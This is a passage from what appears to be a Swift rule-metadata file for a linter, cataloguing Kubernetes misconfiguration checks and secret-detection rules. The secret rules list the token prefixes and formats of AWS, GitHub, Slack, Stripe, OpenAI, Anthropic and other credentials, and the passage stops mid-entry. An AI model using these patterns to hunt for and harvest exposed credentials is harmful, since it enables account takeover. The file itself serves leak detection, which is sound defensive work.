            summary: "Reports, as a note, a container or init container without `resources.limits.cpu`.",
            sourcePath: "Rules/kubernetes/K8S015.md"
        ),
        RuleMetadata(
            id: "K8S016", title: "No liveness probe", kind: "kubernetes", severity: .note,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/tasks/configure-pod-container/configure-liveness-readiness-startup-probes/"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_8"), (tool: "kube-linter", id: "no-liveness-probe")],
            options: [],
            summary: "Reports, as a note, a container of a long-running workload (Deployment, StatefulSet, DaemonSet, ReplicaSet, ReplicationController, or a Pod whose `restartPolicy` is `Always`) without a `livenessProbe`. Native sidecars (init containers with `restartPolicy: Always`) are checked too; Jobs, CronJobs and ordinary init containers are not.",
            sourcePath: "Rules/kubernetes/K8S016.md"
        ),
        RuleMetadata(
            id: "K8S017", title: "No readiness probe", kind: "kubernetes", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/tasks/configure-pod-container/configure-liveness-readiness-startup-probes/#define-readiness-probes"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_9"), (tool: "kube-linter", id: "no-readiness-probe")],
            options: [],
            summary: "Reports a container of a long-running workload that serves traffic — it declares a container port, or a Service of the same file selects its pod — and has no `readinessProbe`. Workers with no port and no Service in front of them are not reported.",
            sourcePath: "Rules/kubernetes/K8S017.md"
        ),
        RuleMetadata(
            id: "K8S018", title: "Image uses latest or no tag", kind: "kubernetes", severity: .warning,
            tags: ["reliability", "security"], securitySeverity: "3.0",
            references: ["https://kubernetes.io/docs/concepts/containers/images/#image-names", "https://kubernetes.io/docs/concepts/configuration/overview/#container-images"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_14"), (tool: "kube-linter", id: "latest-tag"), (tool: "trivy", id: "KSV-0013")],
            options: [],
            summary: "Reports a container image — in containers, init containers and ephemeral containers alike — that has no tag or the `latest` tag and no digest. References with placeholders (`${IMAGE}`, `$(TAG)`, `<image>`, or an all-capitals `CONTAINER_IMAGE`, which cannot be an image name) are not judged.",
            sourcePath: "Rules/kubernetes/K8S018.md"
        ),
        RuleMetadata(
            id: "K8S019", title: "Image pull policy contradicts the tag", kind: "kubernetes", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/concepts/containers/images/#image-pull-policy"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_15")],
            options: [],
            summary: "Reports an explicit `imagePullPolicy` that contradicts the image reference: `IfNotPresent` or `Never` with a `latest` or missing tag (warning), and `Always` with an image pinned by digest (note). A moving tag without an explicit policy is fine: Kubernetes then defaults to `Always`.",
            sourcePath: "Rules/kubernetes/K8S019.md"
        ),
        RuleMetadata(
            id: "K8S020", title: "No seccomp profile", kind: "kubernetes", severity: .warning,
            tags: ["security"], securitySeverity: "5.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.7.2: Ensure that the seccomp profile is set to docker/default in your pod definitions", "https://kubernetes.io/docs/concepts/security/pod-security-standards/#restricted", "https://kubernetes.io/docs/tutorials/security/seccomp/"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_31"), (tool: "trivy", id: "KSV-0030")],
            options: [],
            summary: "Reports a container whose effective `seccompProfile.type` (its own, else the pod's) is neither `RuntimeDefault` nor `Localhost`: missing (reported per container, at its name) or `Unconfined` (at the setting; a pod-level `Unconfined` inherited by several containers is reported once). Windows pods are skipped.",
            sourcePath: "Rules/kubernetes/K8S020.md"
        ),
        RuleMetadata(
            id: "K8S021", title: "Service account token mounted", kind: "kubernetes", severity: .note,
            tags: ["security"], securitySeverity: "4.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.1.6: Ensure that Service Account Tokens are only mounted where necessary", "https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/#opt-out-of-api-credential-automounting", "NSA/CISA Kubernetes Hardening Guide v1.2 (2022), \"Kubernetes Pod security\": \"Service account tokens\""],
            equivalents: [(tool: "checkov", id: "CKV_K8S_38"), (tool: "trivy", id: "KSV-0036")],
            options: [],
            summary: "Reports, as a note, a workload whose pods get a service account token: the pod spec does not set `automountServiceAccountToken: false` and neither does its ServiceAccount when this file defines it. A pod whose ServiceAccount is bound to a Role or ClusterRole in the same file evidently uses the API and is not reported.",
            sourcePath: "Rules/kubernetes/K8S021.md"
        ),
        RuleMetadata(
            id: "K8S022", title: "Object in the default namespace", kind: "kubernetes", severity: .warning,
            tags: ["security", "maintainability"], securitySeverity: "2.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.7.4: The default namespace should not be used", "https://kubernetes.io/docs/concepts/overview/working-with-objects/namespaces/"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_21"), (tool: "kube-linter", id: "use-namespace"), (tool: "trivy", id: "KSV-0110")],
            options: [],
            summary: "Reports `metadata.namespace: default` on a namespaced object. Objects without a namespace are not reported: they are usually placed with `kubectl -n`, a kustomization or Helm, and the linter cannot tell where they land. Cluster-scoped kinds are skipped.",
            sourcePath: "Rules/kubernetes/K8S022.md"
        ),
        RuleMetadata(
            id: "K8S023", title: "Service of type LoadBalancer", kind: "kubernetes", severity: .note,
            tags: ["cost", "security"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/concepts/services-networking/service/#loadbalancer", "https://kubernetes.io/docs/concepts/services-networking/gateway/"],
            equivalents: [(tool: "kube-linter", id: "exposed-services")],
            options: [],
            summary: "Reports, as a note, a Service of `type: LoadBalancer`; the message says whether annotations make it internal or `loadBalancerSourceRanges` restrict it.",
            sourcePath: "Rules/kubernetes/K8S023.md"
        ),
        RuleMetadata(
            id: "K8S024", title: "Service of type NodePort", kind: "kubernetes", severity: .warning,
            tags: ["security"], securitySeverity: "4.0",
            references: ["https://kubernetes.io/docs/concepts/services-networking/service/#type-nodeport"],
            equivalents: [(tool: "kube-linter", id: "exposed-services")],
            options: [],
            summary: "Reports a Service of `type: NodePort`, unless an Ingress of the same file routes to it (cloud Ingress controllers without container-native load balancing, such as GKE's instance-group mode, need NodePort backends).",
            sourcePath: "Rules/kubernetes/K8S024.md"
        ),
        RuleMetadata(
            id: "K8S025", title: "Secret as a literal environment value", kind: "kubernetes", severity: .error,
            tags: ["security"], securitySeverity: "7.5",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.4.1: Prefer using secrets as files over secrets as environment variables", "https://kubernetes.io/docs/concepts/configuration/secret/#using-secrets-as-environment-variables"],
            equivalents: [(tool: "kube-linter", id: "env-var-secret")],
            options: [],
            summary: "Reports an environment variable whose name says it holds a credential (words such as PASSWORD, PASSWD, PASS, SECRET, TOKEN, APIKEY, CREDENTIALS, or KEY after API/PRIVATE/ACCESS/SECRET/CLIENT…) with a literal `value:`. Names about a credential rather than the credential (`…_FILE`, `…_PATH`, `…_URL`, `…_TTL`, `…_ID`…) or a setting about credentials (`MYSQL_ALLOW_EMPTY_PASSWORD`, `MAX_TOKENS`) are not reported, nor are values that cannot be credentials: unquoted numbers and booleans, digits only, paths, references (`$(VAR)`, `${VAR}`), the variable's own name or another CONSTANT_LIKE name (`INSERT_TOKEN_HERE`), and obvious placeholders (`changeme`, `<…>`, `example`, `xxxx`). The message never repeats the value.",
            sourcePath: "Rules/kubernetes/K8S025.md"
        ),
        RuleMetadata(
            id: "K8S026", title: "Single replica", kind: "kubernetes", severity: .note,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/concepts/workloads/pods/disruptions/", "https://kubernetes.io/docs/tasks/run-application/configure-pdb/"],
            equivalents: [(tool: "kube-linter", id: "minimum-three-replicas")],
            options: [],
            summary: "Reports, as a note, a Deployment or StatefulSet that runs one replica — `replicas: 1`, or no `replicas` (which means 1), or an autoscaler of the same file whose `minReplicas` is 1 — when no PodDisruptionBudget of the file selects it. `replicas: 0` (deliberately scaled down) is not reported.",
            sourcePath: "Rules/kubernetes/K8S026.md"
        ),
        RuleMetadata(
            id: "K8S027", title: "Replicated workload without a PodDisruptionBudget", kind: "kubernetes", severity: .note,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/concepts/workloads/pods/disruptions/", "https://kubernetes.io/docs/tasks/run-application/configure-pdb/"],
            equivalents: [],
            options: [],
            summary: "Reports, as a note, a Deployment or StatefulSet with two or more replicas (or an autoscaler of the same file with `minReplicas` of two or more) that no PodDisruptionBudget of the same file selects. Budgets are matched by label selector (matchLabels and matchExpressions) and namespace; a budget kept in another file is not seen, hence a note.",
            sourcePath: "Rules/kubernetes/K8S027.md"
        ),
        RuleMetadata(
            id: "K8S028", title: "Autoscaler target lacks resource requests", kind: "kubernetes", severity: .error,
            tags: ["reliability", "cost"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/tasks/run-application/horizontal-pod-autoscale/#support-for-resource-metrics"],
            equivalents: [],
            options: [],
            summary: "Reports a HorizontalPodAutoscaler that scales a workload of the same file on CPU or memory *utilization* — a `Resource`/`ContainerResource` metric with `target.type: Utilization`, v2beta1's `targetAverageUtilization`, v1's `targetCPUUtilizationPercentage`, or no metrics at all (the default is 80 % CPU) — while containers of that workload have no request for that resource (a limit counts as a request).",
            sourcePath: "Rules/kubernetes/K8S028.md"
        ),
        RuleMetadata(
            id: "K8S029", title: "Ingress without TLS", kind: "kubernetes", severity: .warning,
            tags: ["security"], securitySeverity: "5.0",
            references: ["https://kubernetes.io/docs/concepts/services-networking/ingress/#tls", "NSA/CISA Kubernetes Hardening Guide v1.2 (2022), \"Kubernetes Pod security\": \"Network separation and hardening\""],
            equivalents: [],
            options: [],
            summary: "Reports an Ingress without `spec.tls`, unless a cloud annotation attaches certificates instead (`networking.gke.io/managed-certificates`, `ingress.gcp.kubernetes.io/pre-shared-cert`, `alb.ingress.kubernetes.io/certificate-arn`, `appgw.ingress.kubernetes.io/appgw-ssl-certificate`).",
            sourcePath: "Rules/kubernetes/K8S029.md"
        ),
        RuleMetadata(
            id: "K8S030", title: "ingress-nginx is end of life", kind: "kubernetes", severity: .note,
            tags: ["security", "maintainability"], securitySeverity: nil,
            references: ["https://github.com/kubernetes/ingress-nginx (README: end of maintenance, March 2026)", "https://kubernetes.io/docs/concepts/services-networking/gateway/", "https://gateway-api.sigs.k8s.io/guides/migrating-from-ingress/"],
            equivalents: [],
            options: [],
            summary: "Reports, as a note, an Ingress that targets the ingress-nginx controller — `ingressClassName: nginx`, the legacy `kubernetes.io/ingress.class: nginx` annotation, or `nginx.ingress.kubernetes.io/` annotations without a class — and an IngressClass whose controller is `k8s.io/ingress-nginx`. Ingresses with `nginx.org/` annotations (F5's NGINX Ingress Controller, which also uses the class `nginx` and is maintained) are not reported.",
            sourcePath: "Rules/kubernetes/K8S030.md"
        ),
        RuleMetadata(
            id: "K8S031", title: "Wildcard in RBAC rules", kind: "kubernetes", severity: .warning,
            tags: ["security"], securitySeverity: "7.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.1.3: Minimize wildcard use in Roles and ClusterRoles", "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_49"), (tool: "kube-linter", id: "wildcard-in-rules"), (tool: "trivy", id: "KSV-0044")],
            options: [],
            summary: "Reports each `*` in the `verbs` or `resources` of a Role or ClusterRole rule, at the `*` itself. Rules that only cover the metrics APIs (`metrics.k8s.io`, `custom.metrics.k8s.io`, `external.metrics.k8s.io`) are not reported: those APIs name resources after metrics and serve only reads, so a wildcard is how metrics adapters are granted access. (Trivy splits this check into KSV-0044, KSV-0045 and KSV-0046.)",
            sourcePath: "Rules/kubernetes/K8S031.md"
        ),
        RuleMetadata(
            id: "K8S032", title: "Binding to cluster-admin", kind: "kubernetes", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.1.1: Ensure that the cluster-admin role is only used where required", "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#user-facing-roles"],
            equivalents: [(tool: "kube-linter", id: "cluster-admin-role-binding"), (tool: "trivy", id: "KSV-0111")],
            options: [],
            summary: "Reports a ClusterRoleBinding (error) or RoleBinding (warning: limited to its namespace) whose `roleRef` is the `cluster-admin` ClusterRole, at the role's name, listing the subjects.",
            sourcePath: "Rules/kubernetes/K8S032.md"
        ),
        RuleMetadata(
            id: "K8S033", title: "Selector does not match the pod template", kind: "kubernetes", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/concepts/workloads/controllers/deployment/#selector"],
            equivalents: [(tool: "kube-linter", id: "mismatching-selector")],
            options: [],
            summary: "Reports a Deployment, StatefulSet, DaemonSet, ReplicaSet, ReplicationController or Job whose `spec.selector` (matchLabels and matchExpressions, or a ReplicationController's plain map) does not select its own pod template's labels, and an `apps/v1` controller with no selector at all. In a directory that holds a `kustomization.yaml`, an `apps` controller without a selector is read as a strategic-merge patch and not reported; so is, anywhere, a workload whose pod template has no containers or a container without an image (no rule judges such fragments).",
            sourcePath: "Rules/kubernetes/K8S033.md"
        ),
        RuleMetadata(
            id: "K8S034", title: "Replica count fixed on an autoscaled workload", kind: "kubernetes", severity: .note,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/tasks/run-application/horizontal-pod-autoscale/#migrating-deployments-and-statefulsets-to-horizontal-autoscaling"],
            equivalents: [],
            options: [],
            summary: "Reports, as a note, `spec.replicas` on a Deployment, StatefulSet, ReplicaSet or ReplicationController that a HorizontalPodAutoscaler of the same file scales.",
            sourcePath: "Rules/kubernetes/K8S034.md"
        ),
        RuleMetadata(
            id: "K8S035", title: "Duplicate environment variable", kind: "kubernetes", severity: .warning,
            tags: ["reliability", "maintainability"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/tasks/inject-data-application/define-environment-variable-container/"],
            equivalents: [(tool: "kube-linter", id: "duplicate-env-var")],
            options: [],
            summary: "Reports an environment variable set twice in one container's `env`, at the later entry, with the first as related location.",
            sourcePath: "Rules/kubernetes/K8S035.md"
        ),
        RuleMetadata(
            id: "K8S036", title: "API version no longer served", kind: "kubernetes", severity: .error,
            tags: ["reliability", "maintainability"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/reference/using-api/deprecation-guide/"],
            equivalents: [(tool: "kube-linter", id: "no-extensions-v1beta")],
            options: [],
            summary: "Reports an `apiVersion` that current Kubernetes versions no longer serve for the object's kind, naming the release that removed it and the replacement: `extensions/v1beta1` and `apps/v1beta1`/`v1beta2` workloads (1.16), `networking.k8s.io/v1beta1` Ingress and the v1beta1 RBAC, CRD, webhook, PriorityClass and storage APIs (1.22), `batch/v1beta1` CronJob, `policy/v1beta1` PodDisruptionBudget and `autoscaling/v2beta1` (1.25), `autoscaling/v2beta2` (1.26), and the flow-control betas (1.26, 1.29, 1.32).",
            sourcePath: "Rules/kubernetes/K8S036.md"
        ),
        RuleMetadata(
            id: "SEC001", title: "AWS access key ID committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_identifiers.html#identifiers-unique-ids", "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "checkov", id: "CKV_SECRET_2"), (tool: "gitleaks", id: "aws-access-token"), (tool: "trufflehog", id: "AWS")],
            options: [],
            summary: "Reports an AWS access key ID (`AKIA…` long-term, `ASIA…` temporary) written in a linted file.",
            sourcePath: "Rules/secrets/SEC001.md"
        ),
        RuleMetadata(
            id: "SEC002", title: "AWS secret access key committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "9.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html", "https://docs.aws.amazon.com/sdkref/latest/guide/feature-static-credentials.html", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "aws-access-token"), (tool: "trufflehog", id: "AWS")],
            options: [],
            summary: "Reports a 40-character AWS secret access key assigned to a key that names it (`AWS_SECRET_ACCESS_KEY`, `aws_secret_access_key`, `secretAccessKey`).",
            sourcePath: "Rules/secrets/SEC002.md"
        ),
        RuleMetadata(
            id: "SEC003", title: "GitHub token committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "8.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://github.blog/engineering/behind-githubs-new-authentication-token-formats/", "https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/about-authentication-to-github#githubs-token-formats", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "github-pat, github-fine-grained-pat, github-oauth, github-app-token, github-refresh-token"), (tool: "trufflehog", id: "Github")],
            options: [],
            summary: "Reports GitHub tokens by their documented prefixes: classic (`ghp_`) and fine-grained (`github_pat_`) personal access tokens, OAuth tokens (`gho_`), GitHub App user and installation tokens (`ghu_`, `ghs_`) and refresh tokens (`ghr_`).",
            sourcePath: "Rules/secrets/SEC003.md"
        ),
        RuleMetadata(
            id: "SEC004", title: "GitLab token committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "8.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://docs.gitlab.com/security/tokens/", "https://docs.gitlab.com/ci/runners/new_creation_workflow/", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "gitlab-pat, gitlab-ptt, gitlab-rrt, gitlab-runner-authentication-token, gitlab-deploy-token"), (tool: "trufflehog", id: "Gitlab")],
            options: [],
            summary: "Reports GitLab personal access tokens (`glpat-`), pipeline trigger tokens (`glptt-`), runner registration (`GR1348941…`) and authentication (`glrt-`) tokens and deploy tokens (`gldt-`).",
            sourcePath: "Rules/secrets/SEC004.md"
        ),
        RuleMetadata(
            id: "SEC005", title: "Slack token committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "7.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://api.slack.com/authentication/token-types", "https://api.slack.com/authentication/best-practices", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "checkov", id: "CKV_SECRET_14"), (tool: "gitleaks", id: "slack-bot-token, slack-user-token, slack-app-token, slack-legacy-token"), (tool: "trufflehog", id: "Slack")],
            options: [],
            summary: "Reports Slack bot (`xoxb-`), user (`xoxp-`), app-level (`xapp-`) and legacy or workspace (`xoxa-`, `xoxo-`, `xoxr-`, `xoxs-`) tokens.",
            sourcePath: "Rules/secrets/SEC005.md"
        ),
        RuleMetadata(
            id: "SEC006", title: "Slack webhook URL committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "6.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://api.slack.com/messaging/webhooks", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "slack-webhook-url"), (tool: "trufflehog", id: "SlackWebhook")],
            options: [],
            summary: "Reports Slack incoming-webhook URLs (`https://hooks.slack.com/services/T…/B…/…`, also `workflows/` and `triggers/`); the path after `services/` is the credential and is what gets redacted.",
            sourcePath: "Rules/secrets/SEC006.md"
        ),
        RuleMetadata(
            id: "SEC007", title: "Stripe live API key committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://docs.stripe.com/keys", "https://docs.stripe.com/keys-best-practices", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "checkov", id: "CKV_SECRET_17"), (tool: "gitleaks", id: "stripe-access-token"), (tool: "trufflehog", id: "Stripe")],
            options: [],
            summary: "Reports Stripe live-mode secret keys (`sk_live_`) and restricted keys (`rk_live_`). Test-mode keys (`sk_test_`, `rk_test_`) and publishable keys (`pk_live_`, `pk_test_`) are not reported, by this rule or by SEC029: test keys move no money and publishable keys are public by design.",
            sourcePath: "Rules/secrets/SEC007.md"
        ),
        RuleMetadata(
            id: "SEC008", title: "Google API key committed", kind: "any", severity: .warning,
            tags: ["security"], securitySeverity: "6.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://cloud.google.com/docs/authentication/api-keys", "https://cloud.google.com/docs/authentication/api-keys-best-practices", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "gcp-api-key")],
            options: [],
            summary: "Reports Google API keys (`AIza` and 35 characters). A warning rather than an error: browser keys (Maps, Firebase) are shipped to clients and are safe only when restricted by referrer and API.",
            sourcePath: "Rules/secrets/SEC008.md"
        ),
        RuleMetadata(
            id: "SEC009", title: "Google OAuth client secret committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "7.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://developers.google.com/identity/protocols/oauth2", "https://support.google.com/cloud/answer/6158849", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [],
            options: [],
            summary: "Reports Google OAuth 2.0 client secrets (`GOCSPX-` and 28 characters).",
            sourcePath: "Rules/secrets/SEC009.md"
        ),
        RuleMetadata(
            id: "SEC010", title: "Private key committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://www.rfc-editor.org/rfc/rfc7468", "https://kubernetes.io/docs/concepts/configuration/secret/#tls-secrets", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "checkov", id: "CKV_SECRET_13"), (tool: "gitleaks", id: "private-key"), (tool: "trufflehog", id: "PrivateKey")],
            options: [],
            summary: "Reports PEM private key blocks — RSA, EC, DSA, OpenSSH, encrypted PKCS#8, PGP and plain `PRIVATE KEY` — by their `-----BEGIN … PRIVATE KEY-----` line, when a key body follows. The finding points at the BEGIN line; the body is redacted. `...` placeholders and certificates (`BEGIN CERTIFICATE`, public) are not reported.",
            sourcePath: "Rules/secrets/SEC010.md"
        ),
        RuleMetadata(
            id: "SEC011", title: "JSON Web Token committed", kind: "any", severity: .warning,
            tags: ["security"], securitySeverity: "6.0",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://www.rfc-editor.org/rfc/rfc7519", "https://www.rfc-editor.org/rfc/rfc8725", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "checkov", id: "CKV_SECRET_9"), (tool: "gitleaks", id: "jwt"), (tool: "trufflehog", id: "JWT")],
            options: [],
            summary: "Reports signed JSON Web Tokens: three base64url segments whose header decodes to JSON with an `alg` and whose signature is at least 16 characters. A warning: some JWTs are public (anon keys meant for browsers), many are bearer credentials.",
            sourcePath: "Rules/secrets/SEC011.md"
        ),
        RuleMetadata(
            id: "SEC012", title: "SendGrid API key committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "7.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://www.twilio.com/docs/sendgrid/ui/account-and-settings/api-keys", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "sendgrid-api-token"), (tool: "trufflehog", id: "SendGrid")],
            options: [],
            summary: "Reports SendGrid API keys (`SG.` and two URL-safe segments of 22 and 43 characters).",
            sourcePath: "Rules/secrets/SEC012.md"
        ),
        RuleMetadata(
            id: "SEC013", title: "Twilio credential committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "7.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://www.twilio.com/docs/iam/api-keys", "https://www.twilio.com/docs/iam/credentials/api", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "checkov", id: "CKV_SECRET_18"), (tool: "gitleaks", id: "twilio-api-key"), (tool: "trufflehog", id: "Twilio")],
            options: [],
            summary: "Reports Twilio API key SIDs (`SK` and 32 hex digits), auth tokens (32 hex digits assigned to a key naming Twilio and a token or secret) and Account SID / auth token pairs (`AC…:…`) on a line that names Twilio. An Account SID alone is an identifier and is not reported.",
            sourcePath: "Rules/secrets/SEC013.md"
        ),
        RuleMetadata(
            id: "SEC014", title: "npm token committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "8.0",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://docs.npmjs.com/about-access-tokens", "https://docs.npmjs.com/using-private-packages-in-a-ci-cd-workflow", "https://docs.docker.com/build/building/secrets/", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "checkov", id: "CKV_SECRET_12"), (tool: "gitleaks", id: "npm-access-token"), (tool: "trufflehog", id: "NpmToken")],
            options: [],
            summary: "Reports npm access tokens (`npm_` and 36 characters) and literal `.npmrc` credentials (`_authToken=`, `_auth=`, `_password=`), typically written by a Dockerfile `RUN echo … > .npmrc`.",
            sourcePath: "Rules/secrets/SEC014.md"
        ),
        RuleMetadata(
            id: "SEC015", title: "PyPI API token committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "8.0",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://pypi.org/help/#apitoken", "https://docs.pypi.org/trusted-publishers/", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "pypi-upload-token"), (tool: "trufflehog", id: "PyPI")],
            options: [],
            summary: "Reports PyPI and TestPyPI API tokens (`pypi-AgEIcHlwaS5vcmc…`, `pypi-AgENdGVzdC5weXBpLm9yZw…`).",
            sourcePath: "Rules/secrets/SEC015.md"
        ),
        RuleMetadata(
            id: "SEC016", title: "Docker registry credential committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "8.0",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://docs.docker.com/reference/cli/docker/login/#credential-stores", "https://docs.docker.com/security/for-developers/access-tokens/", "https://kubernetes.io/docs/tasks/configure-pod-container/pull-image-private-registry/", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "trufflehog", id: "Dockerhub")],
            options: [],
            summary: "Reports Docker Hub access tokens (`dckr_pat_`, `dckr_oat_`), Docker `config.json` entries (`\"auth\": \"<base64 of user:password>\"` with a non-empty password) and Kubernetes `.dockerconfigjson` / `.dockercfg` values whose decoded JSON holds an auth, a password or a token.",
            sourcePath: "Rules/secrets/SEC016.md"
        ),
        RuleMetadata(
            id: "SEC017", title: "Database URL with an inline password", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "8.0",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://www.postgresql.org/docs/current/libpq-connect.html#LIBPQ-CONNSTRING-URIS", "https://www.rfc-editor.org/rfc/rfc3986#section-3.2.1", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "checkov", id: "CKV_SECRET_4"), (tool: "trufflehog", id: "URI")],
            options: [],
            summary: "Reports passwords written inside database and broker connection URLs (`postgres://user:password@host`, MySQL, MariaDB, MongoDB and `mongodb+srv`, Redis, AMQP, SQL Server, ClickHouse, CockroachDB, CouchDB, Neo4j, `jdbc:` forms). Only the password is redacted; the message names the scheme and user.",
            sourcePath: "Rules/secrets/SEC017.md"
        ),
        RuleMetadata(
            id: "SEC018", title: "Azure storage or shared access key committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "8.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://learn.microsoft.com/azure/storage/common/storage-configure-connection-string", "https://learn.microsoft.com/azure/storage/common/storage-use-azurite", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "checkov", id: "CKV_SECRET_3"), (tool: "trufflehog", id: "AzureStorage")],
            options: [],
            summary: "Reports storage account keys in connection strings (`AccountKey=` and 88 base64 characters) and Service Bus / Event Hubs / IoT Hub shared access keys (`SharedAccessKey=`). The Azurite emulator's published development key is not reported.",
            sourcePath: "Rules/secrets/SEC018.md"
        ),
        RuleMetadata(
            id: "SEC019", title: "OpenAI API key committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "7.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://platform.openai.com/docs/api-reference/authentication", "https://help.openai.com/en/articles/5112595-best-practices-for-api-key-safety", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "openai-api-key"), (tool: "trufflehog", id: "OpenAI")],
            options: [],
            summary: "Reports OpenAI API keys: keys carrying OpenAI's `T3BlbkFJ` marker (legacy `sk-…` and `sk-proj-…`) and project, service-account and admin keys (`sk-proj-`, `sk-svcacct-`, `sk-admin-`).",
            sourcePath: "Rules/secrets/SEC019.md"
        ),
        RuleMetadata(
            id: "SEC020", title: "Anthropic API key committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "7.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://docs.anthropic.com/en/api/overview#authentication", "https://support.anthropic.com/en/articles/9767949-api-key-best-practices-keeping-your-keys-safe-and-secure", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "anthropic-api-key, anthropic-admin-api-key"), (tool: "trufflehog", id: "Anthropic")],
            options: [],
            summary: "Reports Anthropic API and admin keys (`sk-ant-api03-…`, `sk-ant-admin01-…`).",
            sourcePath: "Rules/secrets/SEC020.md"
        ),
        RuleMetadata(
            id: "SEC021", title: "Hugging Face token committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "7.0",
